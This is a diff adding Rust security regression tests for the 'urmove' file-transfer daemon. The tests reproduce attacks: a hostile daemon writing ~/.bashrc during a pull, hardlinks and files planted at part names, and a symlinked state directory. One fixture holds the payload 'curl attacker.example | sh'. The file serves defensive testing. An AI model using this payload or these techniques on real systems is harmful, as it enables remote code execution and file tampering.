@@ -1,0 +1,378 @@
+//! The second attack review: each test reproduces one hole that was still
+//! open after the "what the receiver trusts" rework, with real processes,
+//! sockets and files, and asserts what should happen instead (so it fails
+//! until the hole is closed).
+//!
+//! - A hostile daemon answering `urmove pull` may write only what was
+//!   asked for: not any name beneath LOCAL.
+//! - A local user of the root may plant a file or a hardlink at a part
+//!   name; the daemon must never adopt that inode (it would write through
+//!   a hardlink out of its root, and hand the planter a key holder's file).
+//! - The state directory must not end up beneath the root by a symlinked
+//!   parent when it does not exist yet.
+//! - A key holder's `Have` list (pull --resume) is memory the daemon must
+//!   bound like a manifest.
+//! - A key holder must not hold the daemon's descriptors with files whose
+//!   first block only it sent.
+
+use std::io::{Read, Write};
+use std::net::{Shutdown, TcpListener, TcpStream};
+use std::os::unix::fs::{MetadataExt, PermissionsExt};
+use std::path::Path;
+use std::process::{Command, Output, Stdio};
+use std::thread::JoinHandle;
+use std::time::{Duration, Instant};
+
+use urmove::protocol::control::{encode, Message};
+use urmove::protocol::frame::{content_terms, FrameHeader};
+use urmove::protocol::handshake::{Key, ServerHandshake};
+use urmove::protocol::manifest::{Entry, EntryKind};
+use urmove::session::conn::{recv_any, send_msg, Control};
+
+use crate::require;
+use crate::transfer::Daemon;
+use crate::util::{is_root, key_of, noise, output_within, stderr, stdout, try_read_msg, urmove};
+
+/// A bound against hangs only, never a speed check.
+const HANG: Duration = Duration::from_secs(300);
+const IO_WAIT: Duration = Duration::from_secs(30);
+
+fn tmp() -> tempfile::TempDir {
+    tempfile::tempdir_in("/var/tmp").unwrap()
+}
+
+fn both(o: &Output) -> String {
+    format!(
+        "exit {:?}\nstdout: {}\nstderr: {}",
+        o.status.code(),
+        stdout(o),
+        stderr(o)
+    )
+}
+
+/// At most 60 bytes of `b`, readable.
+fn shown(b: &[u8]) -> String {
+    let s = String::from_utf8_lossy(&b[..b.len().min(60)]).into_owned();
+    format!("{s:?} ({} bytes)", b.len())
+}
+
+fn entry(path: &str, kind: EntryKind, size: u64, mode: u32) -> Entry {
+    Entry {
+        path: path.into(),
+        kind,
+        size,
+        mode,
+        mtime_s: 1_700_000_000,
+        mtime_ns: 0,
+        link: None,
+    }
+}
+
+// ---- a hostile daemon answering a pull -------------------------------
+
+/// What a hostile daemon answers a pull with: a manifest of its choosing
+/// and the content of each of its file entries (by index).
+struct Answer {
+    entries: Vec<Entry>,
+    contents: Vec<(u32, Vec<u8>)>,
+}
+
+/// Accept one connection within [`IO_WAIT`] (the client may give up).
+fn accept_within(l: &TcpListener) -> Result<TcpStream, String> {
+    l.set_nonblocking(true).map_err(|e| e.to_string())?;
+    let until = Instant::now() + IO_WAIT;
+    loop {
+        match l.accept() {
+            Ok((s, _)) => {
+                s.set_nonblocking(false).map_err(|e| e.to_string())?;
+                s.set_read_timeout(Some(IO_WAIT))
+                    .map_err(|e| e.to_string())?;
+                return Ok(s);
+            }
+            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock && Instant::now() < until => {
+                std::thread::sleep(Duration::from_millis(10))
+            }
+            Err(e) => return Err(format!("accept: {e}")),
+        }
+    }
+}
+
+/// A daemon that holds the key (every key holder does) and answers one
+/// pull exactly as urmove's protocol wants, with `answer` for content.
+fn hostile_daemon(key: Key, answer: Answer) -> (u16, JoinHandle<Result<(), String>>) {
+    let l = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = l.local_addr().unwrap().port();
+    (
+        port,
+        std::thread::spawn(move || serve_pull(&l, key, answer)),
+    )
+}
+
+fn serve_pull(l: &TcpListener, key: Key, answer: Answer) -> Result<(), String> {
+    let err = |what: &'static str| move |e: String| format!("{what}: {e}");
+    let mut tcp = accept_within(l)?;
+    let Message::Hello(hello) = try_read_msg(&mut tcp).map_err(|e| e.to_string())? else {
+        return Err("no hello".into());
+    };
+    let mut hs = ServerHandshake::new(key, [7; 32]);
+    let ch = hs.on_hello(&hello).map_err(|e| e.to_string())?;
+    tcp.write_all(&encode(&Message::Challenge(ch)))
+        .map_err(|e| e.to_string())?;
+    let Message::Auth(auth) = try_read_msg(&mut tcp).map_err(|e| e.to_string())? else {
+        return Err("no auth".into());
+    };
+    let (welcome, keys) = hs.on_auth(&auth, [9; 16]).map_err(|e| e.to_string())?;
+    tcp.write_all(&encode(&Message::Welcome(welcome)))
+        .map_err(|e| e.to_string())?;
+    let mut ctl = Control::new(tcp);
+    ctl.secure(&keys, false);
+    let Message::Request(req) = recv_any(&mut ctl).map_err(|e| e.to_string())? else {
+        return Err("no request".into());
+    };
+    let send = |ctl: &mut Control, m: &Message| send_msg(ctl, m).map_err(|e| e.to_string());
+    send(&mut ctl, &Message::Manifest(answer.entries.clone())).map_err(err("manifest"))?;
+    send(&mut ctl, &Message::ManifestEnd)?;
+    send(&mut ctl, &Message::Ready)?;
+    let mut streams = Vec::new();
+    for _ in 0..req.streams {
+        let mut s = accept_within(l)?;
+        try_read_msg(&mut s).map_err(|e| format!("stream hello: {e}"))?;
+        streams.push(s);
+    }
+    let mut digests = Vec::new();
+    let mut bytes = 0;
+    for (i, data) in &answer.contents {
+        let h = FrameHeader::for_payload(*i, 0, data, 0);
+        streams[0]
+            .write_all(&h.encode())
+            .and_then(|()| streams[0].write_all(data))
+            .map_err(|e| format!("frame: {e}"))?;
+        digests.push((*i, content_terms(0, data)));
+        bytes += data.len() as u64;
+    }
+    send(&mut ctl, &Message::SourceDigests(digests))?;
+    for s in &streams {
+        let _ = s.shutdown(Shutdown::Write);
+    }
+    send(
+        &mut ctl,
+        &Message::Summary {
+            files: answer.contents.len() as u64,
+            bytes,
+            ok: true,
+        },
+    )?;
+    // Until the client hangs up.
+    let mut sink = [0u8; 4096];
+    let mut tcp = ctl.tcp();
+    while matches!(tcp.read(&mut sink), Ok(n) if n > 0) {}
+    Ok(())
+}
+
+fn pull_cmd(port: u16, key: &Path, state: &Path, what: &str, local: &Path) -> Command {
+    let mut c = urmove();
+    c.args(["pull", "-p", &port.to_string(), "-P", "1", "--json"])
+        .arg("--key-file")
+        .arg(key)
+        .arg("--state-dir")
+        .arg(state)
+        .arg(format!("127.0.0.1:{what}"))
+        .arg(local);
+    c
+}
+
+/// `urmove pull HOST:data/run42 ~` asks for `~/run42` and nothing else;
+/// a daemon (any key holder can run one, or sit where the client expects
+/// its daemon) that answers with `.bashrc` or `.ssh` must not get them
+/// written or re-moded beneath LOCAL (cf. scp's CVE-2019-6111).
+#[test]
+fn a_hostile_daemon_cannot_make_a_pull_write_outside_what_was_asked_for() {
+    let work = tmp();
+    let key = work.path().join("key");
+    assert!(urmove().arg("keygen").arg(&key).status().unwrap().success());
+    let home = work.path().join("home");
+    std::fs::create_dir_all(home.join(".ssh")).unwrap();
+    std::fs::set_permissions(home.join(".ssh"), PermissionsExt::from_mode(0o700)).unwrap();
+    std::fs::write(home.join(".bashrc"), b"ORIGINAL bashrc\n").unwrap();
+    let evil = b"curl attacker.example | sh\n".to_vec();
+    let ok = noise(5000, 3);
+    let answer = Answer {
+        entries: vec![
+            entry("run42", EntryKind::Dir, 0, 0o755),
+            entry("run42/ok.dat", EntryKind::File, ok.len() as u64, 0o644),
+            entry(".bashrc", EntryKind::File, evil.len() as u64, 0o644),
+            entry(".ssh", EntryKind::Dir, 0, 0o777),
+        ],
+        contents: vec![(1, ok), (2, evil.clone())],
+    };
+    let (port, served) = hostile_daemon(key_of(&key), answer);
+    let o = output_within(
+        pull_cmd(port, &key, &work.path().join("state"), "data/run42", &home),
+        HANG,
+    );
+    let _ = served.join();
+    let bashrc = std::fs::read(home.join(".bashrc")).unwrap();
+    assert!(
+        bashrc == b"ORIGINAL bashrc\n",
+        "the daemon wrote ~/.bashrc, which the pull never asked for, now {}: {}",
+        shown(&bashrc),
+        both(&o)
+    );
+    assert_eq!(
+        std::fs::metadata(home.join(".ssh")).unwrap().mode() & 0o7777,
+        0o700,
+        "the daemon re-moded ~/.ssh, which the pull never asked for: {}",
+        both(&o)
+    );
+    assert_ne!(
+        o.status.code(),
+        Some(0),
+        "a pull that got entries it never asked for says ok: {}",
+        both(&o)
+    );
+}
+
+// ---- files planted at part names by a local user of the root ---------
+
+/// A local user who can write in the destination plants a hardlink at the
+/// part name of a file about to be pushed. The daemon opens the part
+/// without O_EXCL and adopts that inode: it truncates and rewrites the
+/// link's other name, which may be outside the root (any file on the same
+/// filesystem the planter may link), and even re-modes and re-times it.
+#[test]
+fn a_hardlink_planted_at_a_part_name_is_never_written_through() {
+    let parent = tmp();
+    let d = Daemon::start_full(&[], "127.0.0.1", parent.path(), &[]);
+    let outside = parent.path().join("outside");
+    std::fs::create_dir(&outside).unwrap();
+    let victim = outside.join("victim");
+    std::fs::write(&victim, b"VICTIM outside the root").unwrap();
+    std::fs::set_permissions(&victim, PermissionsExt::from_mode(0o600)).unwrap();
+    let dest = d.root.path().join("dest");
+    std::fs::create_dir(&dest).unwrap();
+    std::fs::hard_link(&victim, dest.join("f.urmove.part")).unwrap();
+
+    let src = tmp();
+    let f = src.path().join("f");
+    std::fs::write(&f, noise(100_000, 5)).unwrap();
+    let o = d.send(&["--json"], &[f.to_str().unwrap(), "127.0.0.1:dest"]);
+    let outside_now = std::fs::read(&victim).unwrap();
+    assert!(
+        outside_now == b"VICTIM outside the root",
+        "the daemon wrote through a hardlink into a file outside its root, now {}: {}",
+        shown(&outside_now),
+        both(&o)
+    );
+    assert_eq!(
+        std::fs::metadata(&victim).unwrap().mode() & 0o7777,
+        0o600,
+        "the daemon re-moded a file outside its root"
+    );
+    assert_eq!(o.status.code(), Some(0), "{}", both(&o));
+    let got = dest.join("f");
+    assert!(
+        std::fs::read(&got).unwrap() == std::fs::read(&f).unwrap(),
+        "the received file differs"
+    );
+    assert_eq!(
+        std::fs::metadata(&got).unwrap().nlink(),
+        1,
+        "the received file shares its inode with another name"
+    );
+}
+
+/// The same with a plain file: the planter (here uid 65534) makes
+/// `g.urmove.part` writable for itself and keeps it open. The daemon
+/// adopts it, so the key holder's 0600 file ends up owned by the planter,
+/// and every byte of it passed through a descriptor the planter holds
+/// (which could as well have changed them between write and rename, with
+/// `send` still saying "verified").
+#[test]
+fn a_part_file_planted_by_a_local_user_is_never_adopted() {
+    require!(is_root(), "needs root to plant a file as another user");
+    let d = Daemon::start();
+    let dest = d.root.path().join("dest");
+    std::fs::create_dir(&dest).unwrap();
+    let planted = dest.join("g.urmove.part");
+    std::fs::write(&planted, b"").unwrap();
+    std::os::unix::fs::chown(&planted, Some(65534), Some(65534)).unwrap();
+    std::fs::set_permissions(&planted, PermissionsExt::from_mode(0o666)).unwrap();
+    let mut spy = std::fs::OpenOptions::new()
+        .read(true)
+        .write(true)
+        .open(&planted)
+        .unwrap();
+
+    let src = tmp();
+    let g = src.path().join("g");
+    let secret = noise(200_000, 6);
+    std::fs::write(&g, &secret).unwrap();
+    std::fs::set_permissions(&g, PermissionsExt::from_mode(0o600)).unwrap();
+    let o = d.send(&["--json"], &[g.to_str().unwrap(), "127.0.0.1:dest"]);
+    assert_eq!(o.status.code(), Some(0), "{}", both(&o));
+    let got = dest.join("g");
+    let m = std::fs::metadata(&got).unwrap();
+    let mut seen = Vec::new();
+    spy.read_to_end(&mut seen).unwrap();
+    assert!(
+        seen != secret,
+        "the planter read the key holder's 0600 file through its own descriptor"
+    );
+    assert_eq!(
+        m.uid(),
+        0,
+        "the received file belongs to uid {}, who planted its part name",
+        m.uid()
+    );
+    assert!(
+        std::fs::read(&got).unwrap() == secret,
+        "the received file differs"
+    );
+}
+
+// ---- the state directory ---------------------------------------------
+
+/// `--state-dir` is checked against the root after canonicalizing both;
+/// a state directory that does not exist yet is compared as written, so
+/// `LINK/state` with `LINK -> ROOT` passes, and the daemon then creates
+/// its secret beneath its root, where a pull hands it to any key holder.
+#[test]
+fn a_state_dir_reached_through_a_symlinked_parent_never_lands_beneath_the_root() {
+    let work = tmp();
+    let key = work.path().join("key");
+    assert!(urmove().arg("keygen").arg(&key).status().unwrap().success());
+    let root = work.path().join("root");
+    std::fs::create_dir(&root).unwrap();
+    std::os::unix::fs::symlink("root", work.path().join("link")).unwrap();
+    let state = work.path().join("link/state");
+    let mut child = urmove()
+        .args(["recv", "--listen", "127.0.0.1:0", "--root"])
+        .arg(&root)
+        .arg("--key-file")
+        .arg(&key)
+        .arg("--state-dir")
+        .arg(&state)
+        .stdout(Stdio::null())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let secret = root.join("state/secret");
+    let until = Instant::now() + IO_WAIT;
+    let exited = loop {
+        if let Some(st) = child.try_wait().unwrap() {
+            break Some(st);
+        }
+        if secret.exists() || Instant::now() > until {
+            break None;
+        }
+        std::thread::sleep(Duration::from_millis(20));
+    };
+    let _ = child.kill();
+    let _ = child.wait();
+    let mut log = String::new();
+    let _ = child.stderr.take().unwrap().read_to_string(&mut log);
+    assert!(
+        !secret.exists(),
+        "the daemon made its secret beneath its root (exited: {exited:?}): {log}"
+    );
+}
